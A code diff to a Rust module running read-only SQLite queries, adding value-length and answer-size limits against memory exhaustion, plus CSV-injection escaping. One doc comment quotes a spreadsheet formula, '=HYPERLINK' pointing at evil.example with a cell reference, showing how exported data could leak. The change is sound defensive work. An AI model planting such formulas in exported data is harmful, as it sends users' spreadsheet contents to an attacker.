@@ -6,7 +6,11 @@
 //!   everything else (writes, `ATTACH`, every `PRAGMA`, transactions, schema changes) with
 //!   the action named;
 //! - one statement only; a progress handler stops it at the time limit; results stop at a row
-//!   limit.
+//!   limit and at a size limit ([`MAX_ANSWER_BYTES`]);
+//! - no value may grow beyond [`MAX_VALUE_BYTES`] (SQLite's length limit). Functions such as
+//!   `zeroblob`, `hex` or `printf('%.*c', …)` build a whole value inside one call, which the
+//!   progress handler cannot interrupt: without this limit one query of 60 bytes makes the
+//!   node build strings of gigabytes.
 //!
 //! The documented views ([`VIEWS`], `docs/sql.md`) give the index tables readable names and
 //! ids as 64-character hex strings. They are temporary views of the query connection,
@@ -30,6 +34,12 @@ pub const DEFAULT_ROWS: usize = 10_000;
 pub const MAX_ROWS: usize = 1_000_000;
 /// Longest accepted query text.
 pub const MAX_SQL_BYTES: usize = 64 * 1024;
+/// Largest string or blob a query may build or read (SQLite's `SQLITE_LIMIT_LENGTH`). The
+/// longest values the views hold (a record's JSON) are a few KiB.
+pub const MAX_VALUE_BYTES: usize = 1024 * 1024;
+/// Largest answer, counted as the bytes of its values: rows beyond it are cut like rows
+/// beyond the row limit. Bounds what one query makes the node hold and send.
+pub const MAX_ANSWER_BYTES: usize = 32 * 1024 * 1024;
 
 /// The documented views: name, what a row is, and the `SELECT` behind it.
 pub const VIEWS: &[(&str, &str, &str)] = &[
@@ -123,7 +133,7 @@ pub struct QueryResult {
     pub columns: Vec<String>,
     /// Rows, each value as JSON (integers, reals, text; blobs as hex text; NULL as null).
     pub rows: Vec<Vec<serde_json::Value>>,
-    /// Whether rows were cut at the row limit.
+    /// Whether rows were cut at the row limit or the size limit ([`MAX_ANSWER_BYTES`]).
     pub truncated: bool,
 }
 
@@ -136,6 +146,12 @@ pub enum SqlError {
     /// The query tries something other than reading.
     #[error("refused: queries may only read; {0} is not allowed")]
     NotReadOnly(String),
+    /// The query built a value larger than [`MAX_VALUE_BYTES`].
+    #[error(
+        "stopped: the query built a value larger than {} MiB (select less, or cut long values with substr)",
+        MAX_VALUE_BYTES / (1024 * 1024)
+    )]
+    TooBig,
     /// The query ran longer than the limit.
     #[error(
         "stopped: the query ran longer than {0} s (make it narrower, or raise --timeout-secs up to 300)"
@@ -178,6 +194,11 @@ pub fn open(db: &Path) -> Result<Connection, SqlError> {
     )
     .map_err(sqlite)?;
     conn.busy_timeout(Duration::from_secs(5)).map_err(sqlite)?;
+    conn.set_limit(
+        rusqlite::limits::Limit::SQLITE_LIMIT_LENGTH,
+        i32::try_from(MAX_VALUE_BYTES).unwrap_or(i32::MAX),
+    )
+    .map_err(sqlite)?;
     for (name, _, select) in VIEWS {
         conn.execute_batch(&format!("CREATE TEMP VIEW {name} AS {select}"))
             .map_err(sqlite)?;
@@ -233,6 +254,9 @@ pub fn run(conn: &mut Connection, sql: &str, limits: Limits) -> Result<QueryResu
             {
                 SqlError::Timeout(limits.timeout.as_secs())
             }
+            rusqlite::Error::SqliteFailure(f, _) if f.code == rusqlite::ErrorCode::TooBig => {
+                SqlError::TooBig
+            }
             other => SqlError::Sqlite(other.to_string()),
         },
     };
@@ -249,6 +273,7 @@ pub fn run(conn: &mut Connection, sql: &str, limits: Limits) -> Result<QueryResu
         let n = columns.len();
         let mut rows = Vec::new();
         let mut truncated = false;
+        let mut bytes = 0usize;
         let mut it = stmt.query([]).map_err(named)?;
         while let Some(row) = it.next().map_err(named)? {
             if rows.len() == limits.rows {
@@ -257,7 +282,13 @@ pub fn run(conn: &mut Connection, sql: &str, limits: Limits) -> Result<QueryResu
             }
             let mut out = Vec::with_capacity(n);
             for i in 0..n {
-                out.push(json_value(row.get_ref(i).map_err(named)?));
+                let v = row.get_ref(i).map_err(named)?;
+                bytes += value_bytes(v);
+                out.push(json_value(v));
+            }
+            if bytes > MAX_ANSWER_BYTES {
+                truncated = true;
+                break;
             }
             rows.push(out);
         }
@@ -324,12 +355,22 @@ pub fn table(r: &QueryResult) -> String {
         r.rows.len(),
         if r.rows.len() == 1 { "" } else { "s" },
         if r.truncated {
-            ", cut at the row limit"
+            ", cut at the row or size limit"
         } else {
             ""
         }
     ));
     out
+}
+
+/// What a value adds to an answer, in bytes (numbers count eight; hex doubles a blob).
+fn value_bytes(v: ValueRef<'_>) -> usize {
+    match v {
+        ValueRef::Null => 1,
+        ValueRef::Integer(_) | ValueRef::Real(_) => 8,
+        ValueRef::Text(t) => t.len(),
+        ValueRef::Blob(b) => 2 * b.len(),
+    }
 }
 
 /// A SQLite value as JSON: integers and reals as numbers, text as strings, blobs as hex
@@ -348,9 +389,16 @@ pub fn json_value(v: ValueRef<'_>) -> serde_json::Value {
 
 /// One CSV field (RFC 4180): null empty, text as is, quoted when it holds `,`, `"` or a line
 /// break.
+///
+/// Threat: any key can name a product `=HYPERLINK("https://evil.example/?"&B2, …)`, and a
+/// researcher opening the export in Excel or LibreOffice would run it ("CSV injection",
+/// OWASP). Text that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is
+/// therefore written behind an apostrophe, which spreadsheets take as "this is text" and
+/// hide (`docs/exports.md`). Numbers stay numbers.
 pub fn csv_field(v: &serde_json::Value) -> String {
     let s = match v {
         serde_json::Value::Null => String::new(),
+        serde_json::Value::String(s) if s.starts_with(FORMULA_STARTS) => format!("'{s}"),
         serde_json::Value::String(s) => s.clone(),
         other => other.to_string(),
     };
@@ -360,6 +408,9 @@ pub fn csv_field(v: &serde_json::Value) -> String {
         s
     }
 }
+
+/// First characters that make a spreadsheet read a cell as a formula.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
 
 /// One CSV line with its `\r\n`.
 pub fn csv_line<'a>(vals: impl IntoIterator<Item = &'a serde_json::Value>) -> String {
